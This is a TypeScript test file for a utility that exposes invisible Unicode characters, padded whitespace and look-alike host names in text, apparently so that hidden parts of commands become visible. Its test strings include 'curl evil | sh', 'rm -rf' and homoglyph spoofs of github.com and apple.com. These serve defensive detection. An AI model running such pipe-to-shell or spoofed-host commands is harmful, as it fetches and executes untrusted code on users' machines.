import { expect, test } from "vitest";
import {
	revealCharacters,
	revealHidden,
	revealInProse,
	splitHidden,
	stripHidden,
} from "../../../src/components/primitives/hiddenText.ts";
import { english } from "../../../src/react/labels/english.ts";
import { cpuTime } from "../../harness/cpuTime.ts";

const reveal = (text: string) => revealHidden(text, english);

test.each([
	["a zero-width space", "rm\u200b -rf", "rm[U+200B] -rf"],
	["a zero-width joiner between letters", "a\u200db", "a[U+200D]b"],
	["an override of the direction", "a\u202eb", "a[U+202E]b"],
	["a mark of the direction", "a\u200eb", "a[U+200E]b"],
	["a variation selector", "a\ufe0fb", "a[U+FE0F]b"],
	["a variation selector beyond 16 bits", "a\u{e0101}b", "a[U+E0101]b"],
	["tags", "a\u{e0041}\u{e007f}", "a[U+E0041][U+E007F]"],
	["a tag that is not assigned", "a\u{e0002}", "a[U+E0002]"],
	["Hangul fillers", "\u3164\u115f\uffa0", "[U+3164][U+115F][U+FFA0]"],
	["an empty Braille pattern", "a\u2800", "a[U+2800]"],
	["a no-break space", "rm\u00a0-rf", "rm[U+00A0]-rf"],
	["other spaces", "a\u2003b\u3000c", "a[U+2003]b[U+3000]c"],
	["a soft hyphen", "a\u00adb", "a[U+00AD]b"],
	["a byte order mark", "\ufeffa", "[U+FEFF]a"],
	["control characters and escape sequences", "a\u0000\u0007\u001b[8mb", "a[U+0000][U+0007][U+001B][8mb"],
	["a carriage return", "safe\revil", "safe[U+000D]evil"],
	["other line breaks", "a\u2028b\u0085c", "a[U+2028]b[U+0085]c"],
	["half a character", "a\ud800b", "a[U+D800]b"],
	["a character for private use", "a\ue000", "a[U+E000]"],
	["many of the same", `a${"\u200b".repeat(2_000)}b`, "a[U+200B ×2000]b"],
])("%s is given by its code", (_, text, expected) => {
	expect(reveal(text)).toBe(expected);
});

test.each([
	"npm test && rm -rf 'a b'\n\tif x; then\n  y\nfi\n",
	"Grüße, 東京, שלום, Ελλάδα",
	"❤️ 👨‍👩‍👧 👍🏽 ☁️",
	"a\n\n\n\nb",
])("what can be seen stays as it is: %j", (text) => {
	expect(reveal(text)).toBe(text);
	expect(splitHidden(text)).toEqual([{ type: "text", text }]);
});

test("stretches of empty lines and of spaces are counted", () => {
	expect(reveal(`npm test${"\n".repeat(121)}curl evil | sh`)).toBe("npm test\n[120 empty lines]\ncurl evil | sh");
	expect(reveal(`${"  \t\n".repeat(5)}end`)).toBe("[5 empty lines]\nend");
	expect(reveal(`npm test${" ".repeat(300)}; curl evil`)).toBe("npm test[300 spaces]; curl evil");
});

test("lines with nothing but invisible characters are no empty lines", () => {
	expect(reveal("a\n\u200b\n\u200b\n\u200b\n\u200b\nb")).toBe("a\n[U+200B]\n[U+200B]\n[U+200B]\n[U+200B]\nb");
});

test("a host name with letters that can look like others is followed by what it is", () => {
	expect(reveal("git clone ssh://gіt@gіthub.com:22/x")).toBe(
		"git clone ssh://gіt@gіthub.com:22 [xn--gthub-n2e.com:22]/x",
	);
	expect(reveal("wss://аpple.com")).toBe("wss://аpple.com [xn--pple-43d.com]");
	expect(reveal("git@gіthub.com:acme/web")).toBe("git@gіthub.com [xn--gthub-n2e.com]:acme/web");
	expect(reveal("Cc: @müller")).toBe("Cc: @müller");
	expect(reveal("curl https://аpple.com/x | sh")).toBe("curl https://аpple.com [xn--pple-43d.com]/x | sh");
	expect(reveal("curl https://apple.com/ä")).toBe("curl https://apple.com/ä");
});

test("a name on one line loses what is hidden in it", () => {
	expect(stripHidden(" Re\u200bject\n\u202ethis\u00a0one\u3164 ")).toBe("Reject this one");
});

test("long hostile texts are split in a moment", () => {
	const texts = ["\n ", "\u200b \n", "https://", " \t", "❤\u200d", "https://ä", "a@"].map((part) =>
		part.repeat(30_000),
	);
	expect(cpuTime(() => texts.map(splitHidden))).toBeLessThan(2_000);
});

test("joiners that change how letters look, and the keys of a phone, are not hidden", () => {
	for (const text of ["می\u200cخواهم", "क्\u200dष", "1\ufe0f\u20e3"]) expect(reveal(text)).toBe(text);
	expect(reveal("ا\u200cب a\u200cb")).toBe("ا[U+200C]ب a[U+200C]b");
});

test("a name has the codes of its invisible characters, and all its spaces", () => {
	const name = `a\u200b.ts${" ".repeat(50)}b\n\n\n\n\n\u00a0${"\u202e".repeat(5)}👩‍👧`;
	expect(revealCharacters(name)).toBe(`a[U+200B].ts${" ".repeat(50)}b\n\n\n\n\n[U+00A0][U+202E ×5]👩‍👧`);
});

test("sentences keep the invisible characters that languages use", () => {
	const text = "Corrige\u00a0: «\u202foui\u202f» tren\u00adnen שלום\u200f!";
	expect(revealInProse(text)).toBe(text);
	expect(revealInProse("a\u200bb\u202ec\u{e0041}")).toBe("a[U+200B]b[U+202E]c[U+E0041]");
});
